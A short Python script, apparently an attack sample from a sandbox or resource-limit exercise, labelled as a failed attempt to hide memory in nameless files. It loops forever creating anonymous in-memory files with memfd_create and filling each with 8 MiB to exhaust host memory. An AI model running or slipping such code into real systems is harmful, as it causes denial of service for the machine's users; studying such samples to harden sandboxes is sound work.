# attack: hides memory in nameless files | 把内存藏在无名文件里
# exercise: welcome
# outcome: failed
import os
import time

files = []
while True:
    try:
        file = os.memfd_create("hoard")
        os.write(file, bytes(8 << 20))
        files.append(file)
    except (OSError, AttributeError):
        time.sleep(3600)
